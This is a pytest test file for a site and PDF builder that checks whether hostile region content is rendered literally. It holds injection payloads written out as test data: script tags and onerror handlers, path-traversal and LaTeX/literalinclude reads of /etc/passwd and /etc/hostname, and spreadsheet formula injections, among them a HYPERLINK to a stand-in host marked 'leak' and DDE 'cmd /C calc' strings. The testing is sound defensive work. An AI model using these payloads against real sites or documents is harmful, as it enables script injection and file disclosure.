"""Hostile region content renders as text in the HTML and the PDF (issue 17, section 1).

A copy of the project gets a region whose name and briefing content carry script tags, event
handlers, a download role that climbs to a system file, raw LaTeX and HTML fences, an include,
broken math and every LaTeX special. The edition must build, show all of it literally, run no
script and copy no file from outside the project.
"""

from __future__ import annotations

import html
import html.parser
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import ROOT

pytestmark = pytest.mark.study

REGION = "wallonia"
SCRIPT = "X <script>alert(1)</script>"
IMG = "Y <img src=x onerror=alert(1)>"
CLIMB = "Z {download}`p <../../../../../../../../../etc/passwd>`"
RAW_LATEX = "W\n    ~~~{raw} latex\n    \\input{/etc/hostname}\n    ~~~\n"
INCLUDE = "V\n```{literalinclude} /etc/passwd\n```\n"
RAW_HTML = "U\n```{raw} html\n<script>alert(2)</script>\n```\n"
MATH = "T $\\frac{1}{$ end"
SPECIALS = "S % & _ # ~ ^ \\ { } $ end"
HOSTILE = [SCRIPT, IMG, CLIMB, RAW_LATEX, INCLUDE, RAW_HTML, MATH, SPECIALS]
#: Spreadsheet formulas (issue 23, case 7): every published CSV must show them, never run them.
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak","click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-Z+2*cmd|' /C calc'!A0"]


def _hostile_project(root: Path) -> None:
    for part in ("data", "book", "notebooks"):
        shutil.copytree(ROOT / part, root / part)
    shutil.copy(ROOT / "requirements.lock", root / "requirements.lock")
    regions = yaml.safe_load((root / "data" / "regions.yaml").read_text())
    for r in regions["regions"]:
        if r["id"] == REGION:
            r["name"] = "Wallonia <script>alert(1)</script> & $x_1$ {raw}"
    (root / "data" / "regions.yaml").write_text(yaml.safe_dump(regions, sort_keys=False))
    seed = yaml.safe_load((root / "data" / "regions" / "centre-val-de-loire" /
                           "synthesis.yaml").read_text())
    seed["region"] = REGION
    quadrants = ["strengths", "weaknesses", "opportunities", "threats"]
    for k, text in enumerate(HOSTILE):
        seed["swot"][quadrants[k % 4]][k // 4]["text"] = text
    seed["swot"]["strengths"][2]["source"] = "section 2 <b onmouseover=alert(3)>"
    seed["challenges"][0]["name"] = SCRIPT + " " + SPECIALS
    seed["challenges"][1]["name"] = CLIMB
    first_pest = next(iter(seed["pest"].values()))
    first_pest[0]["text"] = MATH + " " + IMG
    for k, text in enumerate(FORMULAS):
        seed["swot"][quadrants[k]][2]["text"] = text
    folder = root / "data" / "regions" / REGION
    folder.mkdir(parents=True, exist_ok=True)
    plan = yaml.safe_load((root / "data" / "regions" / "centre-val-de-loire" /
                           "action_plan.yaml").read_text())
    plan["region"] = REGION
    for k, text in enumerate(FORMULAS):
        plan["actions"][k]["action"] = text
    plan["interventions"][0]["name"] = FORMULAS[0]
    (folder / "action_plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False,
                                                            allow_unicode=True))
    (folder / "synthesis.yaml").write_text(yaml.safe_dump(seed, sort_keys=False,
                                                          allow_unicode=True))


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("hostile")
    root = tmp / "root"
    _hostile_project(root)
    env = dict(os.environ, EOCIC_ROOT=str(root), EOCIC_BUILD=str(tmp / "build"))
    for args in (["run", REGION, "-n", "synthesis", "-n", "action_plan", "--quiet", "--jobs", "1"],
                 ["book", REGION] + ([] if shutil.which("xelatex") else ["--no-pdf"])):
        proc = subprocess.run([sys.executable, "-m", "eocic_helpers.cli", *args],
                              capture_output=True, text=True, env=env, cwd=ROOT)
        assert proc.returncode == 0, (args, proc.stdout[-3000:], proc.stderr[-3000:])
    return tmp / "build"


class _Live(html.parser.HTMLParser):
    """Collects what a browser would execute: script bodies and event-handler attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.handlers: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.handlers.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def _text(page: Path) -> str:
    """The page's text as a reader sees it: zero-width break points (after each "/" of a long
    token in a table cell) are invisible."""
    text = html.unescape(re.sub(r"<[^>]+>", " ", page.read_text("utf-8"))).replace("\u200b", "")
    return " ".join(text.split())


def test_no_live_script_or_handler_in_any_page(hostile_build: Path):
    pages = list((hostile_build / "site").rglob("*.html"))
    assert pages
    for page in pages:
        live = _Live()
        live.feed(page.read_text("utf-8"))
        assert not [s for s in live.scripts if "alert(" in s], page
        # The theme's own buttons have onclick handlers; content must add none.
        assert not [h for h in live.handlers if "alert(" in h], (page, live.handlers)


def test_the_hostile_text_is_shown_literally_in_html(hostile_build: Path):
    text = _text(hostile_build / "site" / REGION / "synthesis.html")
    for needle in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
                   "{download}`p <../../../../../../../../../etc/passwd>`",
                   "\\input{/etc/hostname}", "{literalinclude} /etc/passwd", "$\\frac{1}{$",
                   "% & _ # ~ ^ \\ { } $", "Wallonia <script>alert(1)</script> & $x_1$"):
        assert needle in text, needle


def test_no_file_from_outside_the_project_is_copied(hostile_build: Path):
    site = hostile_build / "site"
    secrets = [Path(p).read_text(errors="replace").strip() for p in ("/etc/passwd", "/etc/hostname")
               if Path(p).exists()]
    for f in site.rglob("*"):
        if not f.is_file():
            continue
        if "_downloads" in f.parts:
            assert f.suffix == ".csv", f
        if f.suffix in {".html", ".txt", ".csv", ".js", ".json"} or f.name in {"passwd", "hostname"}:
            body = f.read_text(errors="replace")
            assert "root:x:0:0" not in body, f
            for secret in secrets:
                if len(secret) > 12:
                    assert secret not in body, f
    assert not list(site.rglob("passwd")) and not list(site.rglob("hostname"))


@pytest.mark.pdf
@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils missing")
def test_the_pdf_builds_and_shows_the_text_literally(hostile_build: Path):
    pdf = hostile_build / "pdf" / f"{REGION}.pdf"
    if not shutil.which("xelatex"):
        pytest.skip("xelatex missing: no PDF")
    assert (hostile_build / "site" / "pdf" / f"{REGION}.pdf").exists()
    raw = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    text = " ".join(raw.split())
    for needle in ("<script>alert(1)</script>", "onerror=alert(1)>", "\\input{/etc/hostname}",
                   "$\\frac{1}{$", "% & _ # ~ ^ \\ { } $"):
        assert needle in text, needle
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else ""
    assert "root:x:0:0" not in raw
    if len(hostname) > 12:
        assert hostname not in raw


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers such as -0.5 are not)."""
    import csv
    import io

    number = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
    return [c for row in csv.reader(io.StringIO(text)) for c in row
            if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]


def test_no_published_csv_holds_a_live_spreadsheet_formula(hostile_build: Path):
    """Issue 23, case 7: tables/swot.csv, action_plan.csv, the Gantt CSV, the data package and
    the site's downloads show each formula with a leading apostrophe."""
    import zipfile

    run = hostile_build / "runs" / REGION
    csvs = {f.relative_to(hostile_build).as_posix(): f.read_text("utf-8")
            for f in [*run.rglob("*.csv"), *(hostile_build / "site").rglob("*.csv")]}
    with zipfile.ZipFile(hostile_build / "site" / "data" / f"{REGION}-data.zip") as z:
        csvs.update({f"zip:{n}": z.read(n).decode("utf-8") for n in z.namelist()
                     if n.endswith(".csv")})
    assert any("_downloads" in name for name in csvs)
    for name, text in csvs.items():
        assert _formula_cells(text) == [], name
    for name in ("tables/swot.csv", "tables/action_plan.csv", "figures/action_plan_gantt.csv"):
        shown = csvs[f"runs/{REGION}/{name}"] + csvs[f"zip:{REGION}-data/{name}"]
        assert "'" + FORMULAS[0].replace('"', '""') in shown, name
    swot = csvs[f"runs/{REGION}/tables/swot.csv"]
    assert all("'" + f.replace('"', '""') in swot for f in FORMULAS)
